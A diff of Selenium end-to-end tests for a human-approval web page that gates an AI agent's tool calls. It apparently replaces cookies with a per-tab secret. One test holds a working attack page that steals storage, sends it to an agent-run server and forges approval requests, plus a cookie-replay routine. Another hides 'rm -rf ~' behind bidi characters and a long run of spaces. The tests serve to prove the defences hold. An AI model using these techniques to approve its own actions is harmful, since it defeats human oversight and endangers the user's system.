@@ -3,17 +3,28 @@
 An agent (the official MCP Python SDK's ClientSession, in a background thread) calls a tool whose policy entry says
 `action: approve`; the call waits while a human decides on the page.
 
-1. `test_sign_in_and_approve_with_javascript`: sign in (a wrong token is refused, the right one sets an HttpOnly,
-   SameSite=Strict cookie); the pending call appears by the page's own refresh (the test never reloads), with its tool,
-   grant and pretty-printed arguments, markup in them shown as text; a screenshot is saved to
-   Tests/e2e/artifacts/admin-page.png (and a phone-sized one to admin-page-phone.png); at 390x844 the buttons fit the
-   viewport; Approve lets the waiting call run the real tool at once.
-2. `test_deny_with_javascript_off`: the plain-form fallback: sign in and Deny with scripts disabled; the decision is a
-   303 back to the list with a notice, and the agent's call answers `approval_denied`.
-3. `test_sign_out`: the list page's Sign out form (a plain POST, also with JavaScript on) clears the cookie.
+Signing in gives the page a random secret that it keeps in `sessionStorage` (scoped to scheme, host and port) and
+sends as `X-Toolgate-Admin-Session`; no cookie is ever set, because a browser sends cookies to every port of a host,
+where an agent may serve pages.
 
-Both: every request the browser made went to the sidecar's own origin (the performance log), the browser console
-has no SEVERE entry (a CSP violation is one), and the page's documents carry a `default-src 'none'` CSP.
+1. `test_sign_in_and_approve_with_javascript`: a wrong token is refused on the form; the right one signs in (no
+   cookie, a 256-bit secret in sessionStorage); the pending call appears by the page's own refresh (the test never
+   reloads), with its tool, grant and pretty-printed arguments, markup in them shown as text; screenshots are saved to
+   Tests/e2e/artifacts/admin-page.png and admin-page-phone.png; at 390x844 the buttons fit the viewport; Approve lets
+   the waiting call run the real tool at once.
+2. `test_page_without_javascript_says_it_needs_it`.
+3. `test_sign_out_revokes_the_secret`: after Sign out the secret the page held answers 401.
+4. `test_a_page_on_another_port_cannot_decide`: the attack of issue 22, as it was found: the approver signs in, then
+   opens a page an agent serves on another loopback port, which tries everything it can (cookies sent to it,
+   `document.cookie`, credentialed fetches, form posts of a decision, the old cookie endpoints, `<img>`/`<iframe>` of
+   the page, and the sidecar itself from the agent's server with whatever it captured). No approval is decided, and
+   the agent receives no secret.
+5. `test_invisible_characters_are_shown_as_escapes`: bidi controls, zero-width and other default-ignorable characters
+   in the arguments show as highlighted `\\u202e`-style marks; long strings wrap; a long run of spaces is counted.
+6. `test_the_page_lists_fifty_at_a_time`: 60 pending approvals, oldest first, 50 on the first page, 10 on the next.
+
+Every test: every request the browser made on the sidecar's page went to the sidecar's own origin (the performance
+log), the browser console has no SEVERE entry (a CSP violation is one), and the page carries a `default-src 'none'` CSP.
 
 Chromium and chromedriver are Debian's (/usr/bin/chromium, /usr/bin/chromedriver); Selenium Manager never runs, and
 the browser cannot resolve any host name but loopback addresses, so nothing is fetched from outside.
@@ -292,22 +303,29 @@ def card_for(browser: Browser, tag: str) -> WebElement | None:
     return None
 
 
+
 def sign_in(browser: Browser, token: str) -> None:
-    field = browser.driver.find_element(By.CSS_SELECTOR, "form[action='/admin/login'] input#token")
+    field = browser.driver.find_element(By.CSS_SELECTOR, "form#signin-form input#token")
     assert field.get_attribute("name") == "token" and field.get_attribute("type") == "password"
     field.clear()
     field.send_keys(token)
-    browser.driver.find_element(By.CSS_SELECTOR, "form[action='/admin/login'] button[type=submit]").click()
+    browser.driver.find_element(By.CSS_SELECTOR, "form#signin-form button[type=submit]").click()
 
 
-def assert_signed_in_cookie(browser: Browser, token: str) -> None:
-    cookies = {c["name"]: c for c in browser.driver.get_cookies()}
-    assert "toolgate_admin" in cookies, f"no toolgate_admin cookie after signing in: {list(cookies.values())}"
-    cookie = cookies["toolgate_admin"]
-    assert cookie.get("httpOnly") is True, cookie
-    assert cookie.get("sameSite") == "Strict", cookie
-    assert cookie.get("path") == "/admin", cookie
-    assert token not in cookie.get("value", ""), "the cookie must not carry the admin token itself"
+def session_secret(browser: Browser) -> str | None:
+    return browser.driver.execute_script("return sessionStorage.getItem('toolgate-admin-session');")
+
+
+def wait_signed_in(browser: Browser, token: str) -> str:
+    """The list is shown, the page holds a fresh 256-bit secret, and no cookie was set."""
+    driver = browser.driver
+    wait_for(browser, "the list", lambda: driver.find_element(By.ID, "app").is_displayed() or None, 5)
+    secret = session_secret(browser)
+    assert secret and re.fullmatch(r"[0-9a-f]{64}", secret), secret
+    assert token not in secret
+    assert not driver.get_cookies(), f"signing in must set no cookie: {driver.get_cookies()}"
+    assert driver.execute_script("return document.cookie;") == ""
+    return secret
 
 
 def assert_card(card: WebElement, arguments: dict[str, Any]) -> None:
@@ -323,7 +341,7 @@ def assert_card(card: WebElement, arguments: dict[str, Any]) -> None:
     meta = card.find_element(By.CSS_SELECTOR, "p.meta").text
     assert re.match(r"^expires in (59 min|1 h 0 min) · \S+$", meta), meta
     for cls, label in (("approve", "Approve"), ("deny", "Deny")):
-        button = card.find_element(By.CSS_SELECTOR, f"form.actions button.{cls}")
+        button = card.find_element(By.CSS_SELECTOR, f".actions button.{cls}")
         assert (button.text, button.get_attribute("name"), button.get_attribute("value")) == (label, "decision", cls)
 
 
@@ -352,13 +370,13 @@ def token_file(tmp_path: Path) -> tuple[Path, str]:
     return path, token
 
 
-def login_refused(origin: str) -> Callable[[str], bool]:
-    """The one console error a wrong token may cause: Chrome reports the form POST's deliberate 401."""
-    return lambda message: message.startswith(f"{origin}/admin/login ") and "status of 401" in message
+def refused_sign_in(origin: str) -> Callable[[str], bool]:
+    """The one console error a wrong token may cause: Chrome reports the sign-in fetch's deliberate 401."""
+    return lambda message: message.startswith(f"{origin}/admin/session ") and "status of 401" in message
 
 
 # ---------------------------------------------------------------------------------------------------------
-# 1. With JavaScript: sign in, the call appears by itself, Approve; phone-sized layout
+# 1. Sign in, the call appears by itself, Approve; phone-sized layout
 
 
 def test_sign_in_and_approve_with_javascript(toolgate, mcp_upstream_json, browsers, tmp_path, record_property):
@@ -367,28 +385,39 @@ def test_sign_in_and_approve_with_javascript(toolgate, mcp_upstream_json, browse
     browser = browsers("js", tg.base)
     driver = browser.driver
 
-    # The sign-in form; a wrong token is refused on the form itself, without a cookie.
+    # The sign-in form; a wrong token is refused on the form itself.
     driver.get(f"{tg.base}/admin/")
-    assert driver.title == "toolgate approvals: sign in"
-    assert not driver.find_elements(By.ID, "list")
+    assert driver.title == "toolgate approvals"
+    wait_for(browser, "the sign-in form", lambda: driver.find_element(By.ID, "signin").is_displayed() or None, 5)
+    assert not driver.find_element(By.ID, "app").is_displayed()
     sign_in(browser, "x" * 43)
-    error = wait_for(browser, "the wrong token's error", lambda: driver.find_element(By.CSS_SELECTOR, "p.error"), 5)
-    assert error.text == "That is not the admin token.", error.text
-    assert driver.find_elements(By.ID, "token"), "the sign-in form must be shown again"
+    error = wait_for(browser, "the wrong token's error", lambda: driver.find_element(By.ID, "signin-error").text or None, 5)
+    assert error == "That is not the admin token.", error
+    assert driver.find_element(By.ID, "token").is_displayed(), "the sign-in form must be shown again"
     assert not driver.get_cookies(), driver.get_cookies()
-    # Chrome reports the refused POST's 401 on the console: the only console error allowed, and only here.
+    assert session_secret(browser) is None
     browser.drain()
     wrong_token_errors = [e for e in browser.console if e.get("level") == "SEVERE"]
-    assert all(login_refused(tg.base)(e["message"]) for e in wrong_token_errors), wrong_token_errors
+    assert all(refused_sign_in(tg.base)(e["message"]) for e in wrong_token_errors), wrong_token_errors
     browser.console.clear()
 
     # The right token: the (empty) list.
     sign_in(browser, token)
-    wait_for(browser, "the list page", lambda: driver.find_elements(By.ID, "list"), 5)
-    assert driver.title == "toolgate approvals"
+    secret = wait_signed_in(browser, token)
     assert driver.current_url == f"{tg.base}/admin/", driver.current_url
+    wait_for(browser, "the empty list", lambda: driver.find_elements(By.CSS_SELECTOR, "#list p.empty"), 5)
     assert driver.find_element(By.CSS_SELECTOR, "#list p.empty").text == "No approvals are waiting."
-    assert_signed_in_cookie(browser, token)
+    # Every list request carried the secret as a header, and no cookie.
+    sent = wait_for(browser, "a list request", lambda: browser.request_headers("/admin/approvals") or None, 5)
+    for headers in sent:
+        lowered = {k.lower(): v for k, v in headers.items()}
+        assert lowered.get("x-toolgate-admin-session") == secret, headers
+        assert "cookie" not in lowered, headers
+
+    # A reload of the tab keeps the sign-in (sessionStorage lives as long as the tab).
+    driver.refresh()
+    wait_for(browser, "the list after a reload", lambda: driver.find_element(By.ID, "app").is_displayed() or None, 5)
+    assert session_secret(browser) == secret
 
     # The agent calls; the page shows it by its own refresh (the marker survives: no navigation happened).
     driver.execute_script("window.e2eMarker = 'same document';")
@@ -445,92 +474,371 @@ def test_sign_in_and_approve_with_javascript(toolgate, mcp_upstream_json, browse
     # The call used the approval: its card goes at the next refresh.
     wait_for(browser, "the used approval's card to go", lambda: card_for(browser, tag) is None, 5)
     assert driver.execute_script("return window.e2eMarker;") == "same document", "the page was reloaded"
-    decisions = browser.responses("/admin/decide")
+    decisions = browser.responses(f"/admin/approvals/{approval_id}")
     assert [r["status"] for r in decisions] == [200], decisions
+    assert not driver.get_cookies(), driver.get_cookies()
 
     assert_csp(browser)
     browser.assert_only_own_origin_and_clean_console()
 
 
 # ---------------------------------------------------------------------------------------------------------
-# 2. Without JavaScript: plain forms, Deny
+# 2. Without JavaScript the page says it needs it
 
 
-def test_deny_with_javascript_off(toolgate, mcp_upstream_json, browsers, tmp_path):
-    admin_file, token = token_file(tmp_path)
+def test_page_without_javascript_says_it_needs_it(toolgate, mcp_upstream_json, browsers, tmp_path):
+    admin_file, _ = token_file(tmp_path)
     tg = toolgate(mcp_upstream_json.url, POLICY, args=["--admin-token-file", str(admin_file)])
-
-    arguments = new_arguments(9)
-    tag = arguments["tag"]
-    call = AgentCall(tg.url, arguments)
-    deadline = time.monotonic() + CARD_SECONDS
-    while not (pending := pending_approvals(tg.base, token)) and time.monotonic() < deadline:
-        time.sleep(0.05)
-    assert len(pending) == 1 and pending[0]["arguments"]["tag"] == tag, pending
-    approval_id = pending[0]["id"]
-
     browser = browsers("nojs", tg.base, javascript=False)
     driver = browser.driver
     driver.get(f"{tg.base}/admin/")
-    sign_in(browser, token)
-    wait_for(browser, "the list page", lambda: driver.find_elements(By.ID, "list"), 5)
-    assert_signed_in_cookie(browser, token)
-    card = card_for(browser, tag)
-    assert card is not None and card.get_attribute("data-id") == approval_id
-    assert_card(card, arguments)
-    assert not call.done, f"the call should be waiting for a decision: {call.result!r} {call.error!r}"
-
-    card.find_element(By.CSS_SELECTOR, "button.deny").click()
-    decisions = wait_for(browser, "the answer to the Deny form", lambda: browser.responses("/admin/decide"), 5)
-    # A plain form POST answered 303 back to the list, which names the decision.
-    assert [r["status"] for r in decisions] == [303], (
-        f"the Deny form's POST /admin/decide answered {[r['status'] for r in decisions]}, not 303: "
-        f"{driver.find_element(By.TAG_NAME, 'body').text!r}\n"
-        f"request headers as sent: {browser.request_headers('/admin/decide')}")
-    wait_for(browser, "the list after the decision", lambda: "decided=" in driver.current_url, 5)
-    assert decisions[0]["headers"].get("location", decisions[0]["headers"].get("Location", "")).startswith(
-        "/admin/?decided="), decisions[0]["headers"]
-    assert driver.current_url.split("?")[0] == f"{tg.base}/admin/", driver.current_url
-    assert driver.find_element(By.ID, "notice").text == f"{approval_id}: denied"
-    card = card_for(browser, tag)
-    assert card is not None and card.find_element(By.CSS_SELECTOR, "p.state.denied").text == "Denied"
-    assert not card.find_elements(By.TAG_NAME, "button"), "a decided approval has no buttons"
-
-    result = call.wait(DECIDED_SECONDS + 5)
-    assert result.is_error is True, f"expected a denial, got {result!r}"
-    denial = denial_of(result)
-    assert (denial.get("reason"), denial.get("approvalId"), denial.get("rule")) == ("approval_denied", approval_id,
-                                                                                 TOOL), denial
-    assert transfers(mcp_upstream_json, tag) == [], "a denied call must not reach the upstream"
-
-    # Scripts really were off: the script's 2-second refresh never fetched /admin/approvals.
-    time.sleep(2.5)
+    message = driver.find_element(By.ID, "needs-javascript")
+    assert message.is_displayed() and "needs JavaScript" in message.text, message.text
+    assert not driver.find_element(By.ID, "signin").is_displayed()
+    assert not driver.find_element(By.ID, "app").is_displayed()
+    time.sleep(2.5)  # the script's 2-second refresh would have run by now, were scripts on
     assert not browser.responses("/admin/approvals"), "the page's script ran although JavaScript is disabled"
     assert_csp(browser)
     browser.assert_only_own_origin_and_clean_console()
 
 
 # ---------------------------------------------------------------------------------------------------------
-# 3. Sign out (a plain form on the list page, JavaScript or not)
+# 3. Sign out revokes
 
 
-def test_sign_out(toolgate, mcp_upstream_json, browsers, tmp_path):
+def test_sign_out_revokes_the_secret(toolgate, mcp_upstream_json, browsers, tmp_path):
     admin_file, token = token_file(tmp_path)
     tg = toolgate(mcp_upstream_json.url, POLICY, args=["--admin-token-file", str(admin_file)])
     browser = browsers("signout", tg.base)
     driver = browser.driver
     driver.get(f"{tg.base}/admin/")
     sign_in(browser, token)
-    wait_for(browser, "the list page", lambda: driver.find_elements(By.ID, "list"), 5)
-    assert_signed_in_cookie(browser, token)
+    secret = wait_signed_in(browser, token)
+    header = {"X-Toolgate-Admin-Session": secret}
+    assert httpx2.get(f"{tg.base}/admin/approvals", headers=header, timeout=5.0).status_code == 200
 
-    driver.find_element(By.CSS_SELECTOR, "form[action='/admin/logout'] button[type=submit]").click()
-    answers = wait_for(browser, "the answer to the Sign out form", lambda: browser.responses("/admin/logout"), 5)
-    assert [r["status"] for r in answers] == [303], (
-        f"the Sign out form's POST /admin/logout answered {[r['status'] for r in answers]}, not 303: "
-        f"{driver.find_element(By.TAG_NAME, 'body').text!r}\n"
-        f"request headers as sent: {browser.request_headers('/admin/logout')}")
-    wait_for(browser, "the sign-in form", lambda: driver.find_elements(By.ID, "token"), 5)
-    assert driver.current_url == f"{tg.base}/admin/", driver.current_url
-    assert not [c for c in driver.get_cookies() if c["name"] == "toolgate_admin"], driver.get_cookies()
+    driver.find_element(By.ID, "signout").click()
+    wait_for(browser, "the sign-in form", lambda: driver.find_element(By.ID, "signin").is_displayed() or None, 5)
+    assert session_secret(browser) is None
+    answers = browser.responses("/admin/session")
+    assert [r["status"] for r in answers] == [200, 204], answers  # signed in, signed out
+    # The secret the page held no longer opens anything, for anyone.
+    response = httpx2.get(f"{tg.base}/admin/approvals", headers=header, timeout=5.0)
+    assert response.status_code == 401, (response.status_code, response.text)
+    response = httpx2.request("DELETE", f"{tg.base}/admin/session", headers=header, timeout=5.0)
+    assert response.status_code == 401, (response.status_code, response.text)
+    assert not driver.get_cookies(), driver.get_cookies()
+    browser.assert_only_own_origin_and_clean_console()
+
+
+# ---------------------------------------------------------------------------------------------------------
+# 4. A page an agent serves on another port of the same host
+
+
+ATTACK_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>preview</title></head><body>
+<p>a harmless preview</p>
+<img src="SIDECAR/admin/" alt="">
+<iframe id="frame" src="SIDECAR/admin/"></iframe>
+<iframe name="sink" id="sink"></iframe>
+<form id="f1" method="post" action="SIDECAR/admin/approvals/APPROVAL" enctype="text/plain" target="sink">
+<input type="hidden" name='{"decision":"approve","x":"' value='"}'></form>
+<form id="f2" method="post" action="SIDECAR/admin/decide" target="sink">
+<input type="hidden" name="id" value="APPROVAL"><input type="hidden" name="decision" value="approve">
+<input type="hidden" name="csrf" value=""></form>
+<script>
+(async function () {
+  var sidecar = 'SIDECAR', id = 'APPROVAL', found = {};
+  function report(what, value) {
+    found[what] = value;
+    return fetch('/admin/report', { method: 'POST', body: JSON.stringify([what, String(value)]) }).catch(function () {});
+  }
+  await report('document.cookie', document.cookie);
+  await report('sessionStorage', JSON.stringify(Object.assign({}, sessionStorage)));
+  await report('localStorage', JSON.stringify(Object.assign({}, localStorage)));
+  async function attempt(what, url, init) {
+    try {
+      var r = await fetch(url, init);
+      var text = '';
+      try { text = await r.text(); } catch (e) {}
+      await report(what, r.type + ' ' + r.status + ' ' + text.slice(0, 2000));
+    } catch (e) { await report(what, 'failed: ' + e); }
+  }
+  await attempt('list, credentials', sidecar + '/admin/approvals', { credentials: 'include' });
+  await attempt('list, no-cors', sidecar + '/admin/approvals', { credentials: 'include', mode: 'no-cors' });
+  await attempt('page, credentials', sidecar + '/admin/', { credentials: 'include' });
+  await attempt('approve, json', sidecar + '/admin/approvals/' + id,
+    { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{"decision":"approve"}' });
+  await attempt('approve, no-cors', sidecar + '/admin/approvals/' + id,
+    { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{"decision":"approve"}' });
+  await attempt('decide, no-cors', sidecar + '/admin/decide',
+    { method: 'POST', credentials: 'include', mode: 'no-cors', body: new URLSearchParams({ id: id, decision: 'approve' }) });
+  try { await report('frame', document.getElementById('frame').contentWindow.sessionStorage.getItem('toolgate-admin-session')); }
+  catch (e) { await report('frame', 'blocked: ' + e.name); }
+  document.getElementById('f1').submit();
+  await new Promise(function (r) { setTimeout(r, 300); });
+  document.getElementById('f2').submit();
+  await new Promise(function (r) { setTimeout(r, 300); });
+  await report('done', 'yes');
+})();
+</script></body></html>"""
+
+
+class AttackerServer:
+    """The agent's own HTTP server on another loopback port: serves the page above at /admin/preview (under /admin,
+    so a cookie with Path=/admin would come along), records every request it gets (headers and bodies), and, as an
+    agent would, tries the sidecar itself with every cookie it was sent."""
+
+    def __init__(self, sidecar: str, approval_id: str) -> None:
+        import http.server
+
+        self.sidecar, self.approval_id = sidecar, approval_id
+        self.requests: list[dict[str, Any]] = []
+        self.replays: list[tuple[str, int, str]] = []
+        attacker = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def log_message(self, *args: Any) -> None:  # quiet
+                pass
+
+            def _record(self) -> bytes:
+                length = int(self.headers.get("Content-Length") or 0)
+                body = self.rfile.read(length) if length else b""
+                attacker.requests.append({"method": self.command, "path": self.path, "headers": dict(self.headers.items()),
+                                          "body": body.decode("utf-8", "replace")})
+                if self.headers.get("Cookie"):
+                    attacker.replay(self.headers["Cookie"])
+                return body
+
+            def do_GET(self) -> None:
+                self._record()
+                page = ATTACK_PAGE.replace("SIDECAR", attacker.sidecar).replace("APPROVAL", attacker.approval_id).encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html; charset=utf-8")
+                self.send_header("Content-Length", str(len(page)))
+                self.end_headers()
+                self.wfile.write(page)
+
+            def do_POST(self) -> None:
+                self._record()
+                self.send_response(204)
+                self.end_headers()
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    @property
+    def origin(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    def replay(self, cookie: str) -> None:
+        """What the agent of issue 22 did with the approver's cookie: load the page, take its CSRF value, decide."""
+        with httpx2.Client(timeout=5.0) as http:
+            page = http.get(f"{self.sidecar}/admin/", headers={"Cookie": cookie})
+            self.replays.append(("GET /admin/", page.status_code, page.text[:200]))
+            csrf = re.search(r'name="csrf" value="([0-9a-f]+)"', page.text)
+            form = {"id": self.approval_id, "decision": "approve", "csrf": csrf.group(1) if csrf else ""}
+            answer = http.post(f"{self.sidecar}/admin/decide", data=form,
+                               headers={"Cookie": cookie, "X-Toolgate-CSRF": form["csrf"]})
+            self.replays.append(("POST /admin/decide", answer.status_code, answer.text[:200]))
+            answer = http.post(f"{self.sidecar}/admin/approvals/{self.approval_id}", json={"decision": "approve"},
+                               headers={"Cookie": cookie})
+            self.replays.append(("POST /admin/approvals/ID", answer.status_code, answer.text[:200]))
+
+    def reports(self) -> dict[str, str]:
+        found: dict[str, str] = {}
+        for r in self.requests:
+            if r["method"] == "POST" and r["path"] == "/admin/report":
+                what, value = json.loads(r["body"])
+                found[what] = value
+        return found
+
+    def everything_received(self) -> str:
+        return json.dumps(self.requests)
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_a_page_on_another_port_cannot_decide(toolgate, mcp_upstream_json, browsers, tmp_path):
+    admin_file, token = token_file(tmp_path)
+    tg = toolgate(mcp_upstream_json.url, POLICY, args=["--admin-token-file", str(admin_file)])
+    arguments = new_arguments(11)
+    call = AgentCall(tg.url, arguments)
+    deadline = time.monotonic() + CARD_SECONDS
+    while not (pending := pending_approvals(tg.base, token)) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert len(pending) == 1, pending
+    approval_id = pending[0]["id"]
+
+    # The approver signs in and sees the call.
+    browser = browsers("victim", tg.base)
+    driver = browser.driver
+    driver.get(f"{tg.base}/admin/")
+    sign_in(browser, token)
+    secret = wait_signed_in(browser, token)
+    wait_for(browser, "the pending call's card", lambda: card_for(browser, arguments["tag"]), CARD_SECONDS)
+    admin_tab = driver.current_window_handle
+
+    # Then opens the agent's "preview" in another tab of the same browser.
+    attacker = AttackerServer(tg.base, approval_id)
+    try:
+        driver.switch_to.new_window("tab")
+        driver.get(f"{attacker.origin}/admin/preview")
+        deadline = time.monotonic() + 20
+        while "done" not in attacker.reports() and time.monotonic() < deadline:
+            time.sleep(0.1)
+        reports = attacker.reports()
+        assert reports.get("done") == "yes", f"the attack page did not run to its end: {reports}"
+        time.sleep(1.0)  # the forms' posts and any replay settle (they are answered at once)
+        received = attacker.everything_received()
+
+        # The agent got nothing that opens /admin: no cookie, no secret, no token, in any request it received.
+        assert secret not in received and token not in received, received
+        assert not [r for r in attacker.requests if "Cookie" in r["headers"]], attacker.requests
+        assert reports["document.cookie"] == "", reports
+        assert secret not in reports["sessionStorage"] and reports["sessionStorage"] == "{}", reports
+        assert not reports["frame"].startswith(secret), reports
+        for what in ("list, credentials", "page, credentials", "approve, json"):
+            assert reports[what].startswith("failed"), (what, reports[what])  # CORS: nothing readable
+        assert attacker.replays == [], f"the agent's server got a cookie to replay: {attacker.replays}"
+    finally:
+        attacker.close()
+
+    # Nothing was decided: the approval is still pending, and the call still waits.
+    assert [(a["id"], a["state"]) for a in pending_approvals(tg.base, token)] == [(approval_id, "pending")]
+    assert not call.done, f"the call should still be waiting: {call.result!r} {call.error!r}"
+    assert transfers(mcp_upstream_json, arguments["tag"]) == []
+
+    # The approver's own tab still works: Deny from it.
+    driver.switch_to.window(admin_tab)
+    retry_stale(lambda: card_for(browser, arguments["tag"]).find_element(By.CSS_SELECTOR, "button.deny").click())
+    result = call.wait(DECIDED_SECONDS + 5)
+    assert denial_of(result).get("reason") == "approval_denied", result
+    assert not driver.get_cookies(), driver.get_cookies()
+
+
+# ---------------------------------------------------------------------------------------------------------
+# 5. What the approver sees is what is approved
+
+
+def test_invisible_characters_are_shown_as_escapes(toolgate, mcp_upstream_json, browsers, tmp_path, record_property):
+    admin_file, token = token_file(tmp_path)
+    policy = {"version": "1", "default": "deny",
+              "tools": {TOOL: {"action": "approve", "approval": {"wait": "0s", "ttl": "1h"}}}}
+    tg = toolgate(mcp_upstream_json.url, policy, args=["--admin-token-file", str(admin_file)])
+    invisible = {
+        "\u202e": "\\u202e", "\u2066": "\\u2066", "\u2069": "\\u2069", "\u200b": "\\u200b", "\u200e": "\\u200e",
+        "\u061c": "\\u061c", "\ufeff": "\\ufeff", "\u00ad": "\\u00ad", "\u2060": "\\u2060", "\u3164": "\\u3164",
+        "\U000e0041": "\\u{e0041}", "\u0007": "\\u0007", "\n": "\\n", "\u00a0": "\\u00a0",
+    }
+    disguised = "echo safe \u202e~ fr- mr\u202c \u2066x\u2069 a\u200bb\u200e \u061c\ufeff\u00ad\u2060\u3164\U000e0041\u0007\n\u00a0"
+    spaces = "ls" + " " * 3000 + "; rm -rf ~"
+    long_word = "A" * 5000 + "TAIL"
+    arguments = {"amount": 1, "tag": disguised, "force": False, "opts": {"spaces": spaces, "long": long_word}}
+
+    async def make_pending() -> None:
+        async with handshake_session(tg.url) as session:
+            result = await session.call_tool(TOOL, arguments)
+        assert denial_of(result).get("reason") == "approval_required", result
+
+    run_async(make_pending)
+    browser = browsers("escapes", tg.base)
+    driver = browser.driver
+    driver.get(f"{tg.base}/admin/")
+    sign_in(browser, token)
+    wait_signed_in(browser, token)
+    card = wait_for(browser, "the card", lambda: (driver.find_elements(By.CSS_SELECTOR, "#list article.card") or [None])[0], CARD_SECONDS)
+
+    def check() -> None:
+        pre = driver.find_element(By.CSS_SELECTOR, "#list article.card pre")
+        rendered = pre.get_attribute("textContent")
+        # No invisible or direction-changing character reaches the rendered text; each shows as its escape.
+        for char, escape in invisible.items():
+            # (A raw newline is the pretty-printing's own; the one inside the string must show as \n.)
+            assert char == "\n" or char not in rendered, f"U+{ord(char):04X} is in the page raw"
+        marks = [e.text for e in pre.find_elements(By.CSS_SELECTOR, "span.esc")]
+        for escape in invisible.values():
+            assert escape in marks, (escape, marks)
+        assert "[3000 spaces]" in marks, marks
+        # The marks are highlighted: a background unlike the text's.
+        mark = pre.find_element(By.CSS_SELECTOR, "span.esc")
+        assert mark.value_of_css_property("background-color") not in ("rgba(0, 0, 0, 0)", "transparent")
+        # Reading order is the stored order: the part an override would have flipped reads as sent.
+        assert "echo safe \\u202e~ fr- mr\\u202c" in rendered, rendered[:300]
+        assert '"ls[3000 spaces]; rm -rf ~"' in rendered
+        assert '\\u0007\\n\\u00a0"' in rendered, "the string's newline is an escape, not a line break"
+        # Nothing is pushed out of view: the long string wraps inside the card, and its tail is displayed.
+        width = driver.execute_script("return [arguments[0].scrollWidth, arguments[0].clientWidth];", pre)
+        assert width[0] <= width[1], f"the arguments overflow sideways: {width}"
+        assert driver.execute_script("return document.documentElement.scrollWidth <= document.documentElement.clientWidth;")
+        assert "TAIL" in pre.text
+
+    retry_stale(check)
+    assert card is not None
+    driver.execute_script("document.querySelectorAll('span.esc')[1].scrollIntoView({block: 'center'});")
+    save_screenshot(browser, "admin-page-escapes.png", record_property)
+    browser.assert_only_own_origin_and_clean_console()
+
+
+# ---------------------------------------------------------------------------------------------------------
+# 6. Fifty at a time
+
+
+def make_pending_approvals(tg: Any, tokens: list[str], per_token: int) -> None:
+    """`per_token` pending approvals for each grant (raw per-request-era calls, wait 0 s), created one after another."""
+    from helpers import modern_headers, tool_call
+
+    with httpx2.Client(timeout=10.0) as http:
+        n = 0
+        for grant_token in tokens:
+            for i in range(per_token):
+                n += 1
+                body = tool_call(n, TOOL, {"amount": n, "tag": f"t{n:03d}", "force": False, "opts": {}}, modern=True)
+                response = http.post(tg.url, json=body, headers={**modern_headers("tools/call", TOOL),
+                                                                 "Authorization": f"Bearer {grant_token}",
+                                                                 "Accept": "application/json, text/event-stream"})
+                assert response.status_code == 200, (response.status_code, response.text)
+                assert "approval_required" in response.text, response.text
+
+
+PAGING_POLICY: dict[str, Any] = {"version": "1", "default": "deny",
+                                 "tools": {TOOL: {"action": "approve", "approval": {"wait": "0s", "ttl": "1h"}}}}
+
+
+def paging_grants(count: int) -> tuple[dict[str, Any], list[str]]:
+    """Several grants, so no per-grant cap on pending approvals stands in the way of 60."""
+    import hashlib
+
+    tokens = [secrets.token_hex(16) for _ in range(count)]
+    grants = {"grants": [{"name": f"g{i}", "sha256": hashlib.sha256(t.encode()).hexdigest()} for i, t in enumerate(tokens)]}
+    return grants, tokens
+
+
+def test_the_page_lists_fifty_at_a_time(toolgate, mcp_upstream_json, browsers, tmp_path):
+    admin_file, token = token_file(tmp_path)
+    grants, tokens = paging_grants(6)
+    tg = toolgate(mcp_upstream_json.url, PAGING_POLICY, grants=grants, args=["--admin-token-file", str(admin_file)])
+    make_pending_approvals(tg, tokens, 10)
+
+    browser = browsers("paging", tg.base)
+    driver = browser.driver
+    driver.get(f"{tg.base}/admin/")
+    sign_in(browser, token)
+    wait_signed_in(browser, token)
+
+    def tags() -> list[str]:
+        return [re.search(r'"tag": "(t\d+)"', c.find_element(By.TAG_NAME, "pre").text).group(1) for c in browser.cards()]
+
+    wait_for(browser, "50 cards", lambda: len(browser.cards()) == 50 or None, CARD_SECONDS)
+    assert retry_stale(tags) == [f"t{n:03d}" for n in range(1, 51)], "oldest first"
+    assert driver.find_element(By.ID, "summary").text == "Showing 1\u201350 of 60, oldest first."
+    driver.find_element(By.ID, "next-page").click()
+    wait_for(browser, "the next 10", lambda: len(browser.cards()) == 10 or None, 5)
+    assert retry_stale(tags) == [f"t{n:03d}" for n in range(51, 61)]
+    assert not driver.find_element(By.ID, "next-page").is_displayed()
+    driver.find_element(By.ID, "first-page").click()
+    wait_for(browser, "the first 50 again", lambda: len(browser.cards()) == 50 or None, 5)
     browser.assert_only_own_origin_and_clean_console()
